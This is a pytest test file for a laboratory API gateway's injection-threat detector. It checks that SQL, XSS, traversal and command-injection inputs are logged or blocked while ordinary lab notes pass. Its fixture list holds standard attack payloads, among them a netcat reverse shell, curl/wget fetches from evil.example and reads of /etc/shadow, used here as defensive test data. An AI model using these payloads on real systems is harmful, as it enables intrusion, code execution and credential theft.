"""Threat detection (security.threats): injection patterns in GraphQL and REST inputs,
logged or blocked, and never tripped by lab data."""

from __future__ import annotations

import dataclasses
import json
import re
from collections.abc import AsyncIterator, Iterator
from contextlib import asynccontextmanager, suppress
from pathlib import Path
from typing import Any

import httpx
import pytest
from graphql import parse

from gateway.app import create_app
from gateway.settings import Settings, SettingsError
from sandbox.runner import SandboxProcess
from sandbox.seed import DEMO_USERS
from sandbox.store import open_store
from security import audit
from security.threats import (
    BLOCK,
    DEFAULT_ALLOW_FIELDS,
    LOG,
    OFF,
    ThreatConfig,
    ThreatDetector,
    match,
    scanned_body,
)
from tests.conftest import (
    SandboxControl,
    app_client,
    audit_lines,
    sandbox_settings,
)

README = Path(__file__).resolve().parent.parent / "README.md"

# Attacks of each family, as scanners and pentest lists send them.
ATTACKS = {
    "sql": [
        "' OR '1'='1",
        "x' or 1=1 --",
        "admin'--",
        "1 UNION SELECT username, password FROM users",
        "1'; DROP TABLE samples; --",
        "1; DELETE FROM users WHERE 1=1",
        "1' AND SLEEP(5)#",
        "'; WAITFOR DELAY '0:0:5'--",
        "1 AND 1=(SELECT COUNT(*) FROM information_schema.tables)",
    ],
    "xss": [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(document.domain)>",
        "<svg/onload=alert(1)>",
        "javascript:alert(1)",
        '"><iframe src="//evil.example">',
        "<body onload=fetch('//x')>",
        "x=document.cookie",
        "window.location='//evil.example'",
    ],
    "traversal": [
        "../../etc/passwd",
        "..\\..\\windows\\win.ini",
        "..%2f..%2f..%2fetc",
        "%252e%252e%252f",
        "report.pdf\x00.png",
        "/proc/self/environ",
    ],
    "command": [
        "; cat /etc/shadow",
        "x && rm -rf /",
        "a | nc -e /bin/sh 10.0.0.1 4444",
        "$(curl http://evil.example/x.sh)",
        "`wget http://evil.example`",
        "sample; id",
        "a;${IFS}whoami",
    ],
}

# What lab data looks like: the characters and words a naive rule would flag.
LAB_TEXT = [
    "Received on dry ice; label intact.",
    "Select SST tubes; drop the pellet & wash twice",
    "Tris-HCl 10 mM; pH 8.0 & EDTA 1 mM",
    "DNA <1 ng/µl; re-extract",
    'Notes: <5 ml, "keep cold", don\'t vortex',
    "O'Brien's sample; tube 3 & 4",
    "strain 'B6' -- male, 8 wk",
    "10x 5' kit; lot #4471",
    "select samples from freezer where temp < -80",
    "Thawed 3; delete from inventory after QC",
    "Update sheet; set status to done",
    "Drop-off at dock 3 && sign in",
    "Sleep (8 h) before collection",
    "reads with <base quality 30 trimmed",
    "see protocol v1.2 / step 3 (SOP-7)",
    "A&B;C|D",
    "<0.5 ng onset=3d",
    "Tube 1..4 / rack B",
    "PLS-20251231204208-0919",
    "| id | name | barcode |",
    "Rack A#3, shelf 'top'",
    "IF (volume < 50 µl) THEN top up",
    "C:\\lab\\exports\\run 12.csv",
    "50% glycerol; store at -20 °C",
]

BARCODE_QUERY = "query Find($b: String!) { sampleByBarcode(barcode: $b) { id } }"


def _settings(sandbox: SandboxProcess, **threats: Any) -> Settings:
    base = sandbox_settings(sandbox)
    config = ThreatConfig(**threats)
    return dataclasses.replace(base, security=dataclasses.replace(base.security, threats=config))


@asynccontextmanager
async def _gateway(settings: Settings) -> AsyncIterator[httpx.AsyncClient]:
    async with app_client(create_app(settings), role="lab_administrator") as client:
        yield client


def _threats(capsys: pytest.CaptureFixture[str]) -> list[dict[str, Any]]:
    return [x for x in audit_lines(capsys) if x["event"] == audit.THREAT_DETECTED]


@pytest.mark.parametrize(
    ("family", "attack"), [(f, a) for f, attacks in ATTACKS.items() for a in attacks]
)
def test_each_attack_matches_its_family(family: str, attack: str) -> None:
    found = match(attack)
    assert found is not None, attack
    assert found[0] == family


@pytest.mark.parametrize("text", LAB_TEXT)
def test_lab_text_matches_no_pattern(text: str) -> None:
    assert match(text) is None


def _strings(value: Any) -> Iterator[str]:
    if isinstance(value, str):
        yield value
        if value[:1] in "[{":
            with suppress(ValueError):
                yield from _strings(json.loads(value))
    elif isinstance(value, dict):
        for key, item in value.items():
            yield str(key)
            yield from _strings(item)
    elif isinstance(value, list):
        for item in value:
            yield from _strings(item)


def test_no_seed_value_and_no_readme_example_is_flagged() -> None:
    store = open_store(memory=True)
    try:
        conn = store.conn
        tables = [r[0] for r in conn.execute("SELECT name FROM sqlite_master WHERE type='table'")]
        values = [
            value
            for table in tables
            for row in conn.execute(f"SELECT * FROM {table}")
            for value in row
        ]
    finally:
        store.close()
    strings = [s for value in values for s in _strings(value)]
    assert len(strings) > 100_000  # the whole seed: users, samples, storage, jobs, documents
    flagged = [(s[:80], match(s)) for s in strings if match(s) is not None]
    assert flagged == []

    detector = ThreatDetector(ThreatConfig())
    readme = README.read_text(encoding="utf-8")
    blocks = re.findall(r"```graphql\n(.*?)```", readme, re.S)
    assert len(blocks) >= 3
    for block in blocks:
        assert detector.screen_document(parse(block)).literal is None, block
    paths = set(re.findall(r"`(/api/[^`\s]*)`", readme))
    assert len(paths) >= 10
    for path in paths:
        assert detector.rest(path, []) is None, path


@pytest.mark.parametrize("family", sorted(ATTACKS))
async def test_log_mode_records_each_family_and_lets_the_request_on(
    sandbox: SandboxProcess,
    control: SandboxControl,
    capsys: pytest.CaptureFixture[str],
    family: str,
) -> None:
    attack = ATTACKS[family][0]
    literal = json.dumps(attack)
    async with _gateway(_settings(sandbox, mode=LOG)) as client:
        by_variable = await client.post(
            "/graphql", json={"query": BARCODE_QUERY, "variables": {"b": attack}}
        )
        by_literal = await client.post(
            "/graphql", json={"query": f"{{ sampleByBarcode(barcode: {literal}) {{ id }} }}"}
        )
        by_query = await client.get("/api/samples", params={"barcode": attack})
        by_body = await client.post("/api/samples/rag/query", json={"query": attack})
    assert by_variable.json() == {"data": {"sampleByBarcode": None}}
    assert by_literal.json() == {"data": {"sampleByBarcode": None}}
    assert by_query.status_code == 200
    assert by_body.status_code == 200
    assert control.requests("samples") == 3  # two lookups by barcode, the REST list
    assert control.requests("rag") == 1
    lines = _threats(capsys)
    assert [(x["outcome"], x["family"], x["where"]) for x in lines] == [
        ("allowed", family, "barcode"),
        ("allowed", family, "barcode"),
        ("allowed", family, "query.barcode"),
        ("allowed", family, "query"),
    ]
    assert all(attack not in json.dumps(x) for x in lines)  # the value is never written


@pytest.mark.parametrize("family", sorted(ATTACKS))
async def test_block_mode_refuses_each_family_and_sends_nothing(
    sandbox: SandboxProcess,
    control: SandboxControl,
    capsys: pytest.CaptureFixture[str],
    family: str,
) -> None:
    attack = ATTACKS[family][-1]
    input_object = "mutation($n: String!) { createSample(input: {name: $n, sampleType: DNA}) "
    input_object += "{ userErrors { code } } }"
    async with _gateway(_settings(sandbox, mode=BLOCK)) as client:
        by_variable = await client.post(
            "/graphql", json={"query": BARCODE_QUERY, "variables": {"b": attack}}
        )
        in_input = await client.post(
            "/graphql", json={"query": input_object, "variables": {"n": attack}}
        )
        by_query = await client.get("/api/samples", params={"barcode": attack})
        by_json = await client.post("/api/samples/rag/query", json={"query": attack})
        by_form = await client.post("/api/samples", data={"name": "ok", "notes": attack})
        clean = await client.post(
            "/graphql", json={"query": BARCODE_QUERY, "variables": {"b": "PLS-1"}}
        )
    refused = {
        "data": None,
        "errors": [
            {
                "message": "The request was refused: an input looks like an injection attack",
                "extensions": {"code": "THREAT_DETECTED"},
            }
        ],
    }
    assert by_variable.json() == refused
    assert in_input.json() == refused
    for rest in (by_query, by_json, by_form):
        assert rest.status_code == 400
        assert rest.json()["error"]["code"] == "THREAT_DETECTED"
    assert clean.json() == {"data": {"sampleByBarcode": None}}
    assert control.requests("samples") == 1  # the clean lookup alone
    assert control.requests("rag") == 0
    lines = _threats(capsys)
    assert [(x["outcome"], x["family"]) for x in lines] == [("blocked", family)] * 5
    assert [x["where"] for x in lines] == ["barcode", "name", "query.barcode", "query", "notes"]


async def test_a_rest_path_is_scanned(
    sandbox: SandboxProcess, control: SandboxControl, capsys: pytest.CaptureFixture[str]
) -> None:
    async with _gateway(_settings(sandbox, mode=BLOCK)) as client:
        refused = await client.get("/api/samples/1' OR '1'='1")
    assert refused.status_code == 400
    assert refused.json()["error"]["code"] == "THREAT_DETECTED"
    assert control.requests("samples") == 0
    (line,) = _threats(capsys)
    assert (line["family"], line["where"], line["route"]) == (
        "sql",
        "path",
        "GET /api/samples/1' OR '1'='1",
    )


async def test_allowed_fields_and_routes_are_not_scanned(
    sandbox: SandboxProcess, control: SandboxControl, capsys: pytest.CaptureFixture[str]
) -> None:
    settings = _settings(
        sandbox,
        mode=BLOCK,
        allow_fields=frozenset({*DEFAULT_ALLOW_FIELDS, "barcode"}),
        allow_routes=("/api/samples/rag",),
    )
    attack = ATTACKS["sql"][0]
    email, _, _ = DEMO_USERS[2]
    login = "mutation($e: String!, $p: String!) { login(input: {email: $e, password: $p}) "
    login += "{ userErrors { code } } }"
    async with _gateway(settings) as client:
        by_barcode = await client.post(
            "/graphql", json={"query": BARCODE_QUERY, "variables": {"b": attack}}
        )
        rag = await client.post("/api/samples/rag/query", json={"query": attack})
        password = await client.post(
            "/graphql", json={"query": login, "variables": {"e": email, "p": attack}}
        )
        other_route = await client.get("/api/samples", params={"name": attack})
    assert by_barcode.json() == {"data": {"sampleByBarcode": None}}
    assert rag.status_code == 200
    assert password.json()["data"]["login"]["userErrors"][0]["code"] == "INVALID_CREDENTIALS"
    assert other_route.status_code == 400
    assert control.requests("rag") == 1
    assert [x["where"] for x in _threats(capsys)] == ["query.name"]


def test_the_scan_is_bounded_per_request() -> None:
    detector = ThreatDetector(ThreatConfig(max_scan=1024))
    attack = ATTACKS["xss"][0]
    screen = detector.screen_document(parse(BARCODE_QUERY))
    within = {"b": "a" * 900 + attack}
    beyond = {"b": "a" * 1100 + attack}
    assert detector.variables(screen, within) is not None
    assert detector.variables(screen, beyond) is None
    long_body = b'{"notes": "' + b"a" * 2000 + b'"}'
    assert detector.body(long_body[:1024], "application/json", complete=False) is None
    head = b'{"notes": "' + attack.encode() + b'", "pad": "' + b"a" * 2000
    found = detector.body(head[:1024], "application/json", complete=False)
    assert found is not None
    assert found.where == "body"


async def test_a_large_body_streams_through_with_only_its_head_scanned(
    sandbox: SandboxProcess, control: SandboxControl
) -> None:
    settings = _settings(sandbox, mode=BLOCK, max_scan=1024)
    body = json.dumps({"query": "which freezer holds plasma? " + "x" * 200_000}).encode()
    async with _gateway(settings) as client:
        answer = await client.post(
            "/api/samples/rag/query", content=body, headers={"content-type": "application/json"}
        )
    assert answer.status_code == 200
    assert control.requests("rag") == 1


def test_threat_settings_are_read_and_checked() -> None:
    settings = Settings.from_env(
        {
            "TRACSEQ_THREAT_DETECTION": "block",
            "TRACSEQ_THREAT_ALLOW_FIELDS": "notes, question",
            "TRACSEQ_THREAT_ALLOW_ROUTES": "/api/samples/rag/",
            "TRACSEQ_THREAT_MAX_SCAN": "4096",
        }
    )
    threats = settings.security.threats
    assert threats.mode == BLOCK
    assert threats.allow_fields == {*DEFAULT_ALLOW_FIELDS, "notes", "question"}
    assert threats.allow_routes == ("/api/samples/rag",)
    assert threats.max_scan == 4096
    assert Settings.from_env({}).security.threats.mode == LOG
    with pytest.raises(SettingsError, match="TRACSEQ_THREAT_DETECTION='warn' is invalid"):
        Settings.from_env({"TRACSEQ_THREAT_DETECTION": "warn"})
    with pytest.raises(SettingsError, match="an allowed route is a path under /api/"):
        Settings.from_env({"TRACSEQ_THREAT_ALLOW_ROUTES": "samples"})


def test_an_allowed_name_leaves_its_whole_value_unscanned() -> None:
    detector = ThreatDetector(ThreatConfig(allow_fields=frozenset({"notes"})))
    attack = ATTACKS["xss"][0]
    document = parse(
        f"{{ f(notes: {{text: {json.dumps(attack)}, more: [$n]}}, name: $m, other: $o) }}"
    )
    screen = detector.screen_document(document)
    assert screen.literal is None
    assert detector.variables(screen, {"n": attack}) is None
    found = detector.variables(screen, {"n": "fine", "m": attack})
    assert found is not None
    assert found.where == "name"
    nested = detector.variables(screen, {"o": {"list": [{"notes": attack}, {"x": attack}]}})
    assert nested is not None
    assert nested.where == "x"


def test_values_are_scanned_apart_though_scanned_as_one_text() -> None:
    detector = ThreatDetector(ThreatConfig())
    screen = detector.screen_document(parse("query($a: String, $b: String) { f(x: $a, y: $b) }"))
    # ";" ends one value and "drop table x" begins the next: no statement spans them.
    assert detector.variables(screen, {"a": "tube 3;", "b": "drop table samples"}) is None
    # Balanced quotes in each value, though not across both.
    assert detector.variables(screen, {"a": "rack 'a'", "b": "strain 'b6' -- male"}) is None
    found = detector.variables(screen, {"a": "plain", "b": "admin'--"})
    assert found is not None
    assert (found.pattern, found.where) == ("comment_after_quote", "y")
    # A value that is ".." alone, and one that ends in "/..", as the last and as a middle one.
    assert detector.variables(screen, {"a": "..", "b": "x"}) is not None
    assert detector.variables(screen, {"a": "x", "b": "a/.."}) is not None
    assert detector.variables(screen, {"a": "1..4", "b": "x"}) is None


async def test_off_mode_scans_nothing(
    sandbox: SandboxProcess, control: SandboxControl, capsys: pytest.CaptureFixture[str]
) -> None:
    attack = ATTACKS["sql"][0]
    async with _gateway(_settings(sandbox, mode=OFF)) as client:
        by_variable = await client.post(
            "/graphql", json={"query": BARCODE_QUERY, "variables": {"b": attack}}
        )
        by_body = await client.post("/api/samples/rag/query", json={"query": attack})
    assert by_variable.json() == {"data": {"sampleByBarcode": None}}
    assert by_body.status_code == 200
    assert control.requests("rag") == 1
    assert _threats(capsys) == []


def test_json_and_form_bodies_are_scanned_and_uploads_are_not() -> None:
    assert scanned_body("application/json; charset=utf-8")
    assert scanned_body("application/vnd.api+json")
    assert scanned_body("application/x-www-form-urlencoded")
    assert not scanned_body("multipart/form-data; boundary=x")
    assert not scanned_body("application/octet-stream")
    assert not scanned_body(None)
    detector = ThreatDetector(ThreatConfig())
    found = detector.body(b'{"a": {"b": ["<script>x</script>"]}}', "application/vnd.api+json", True)
    assert found is not None
    assert (found.family, found.where) == ("xss", "b")
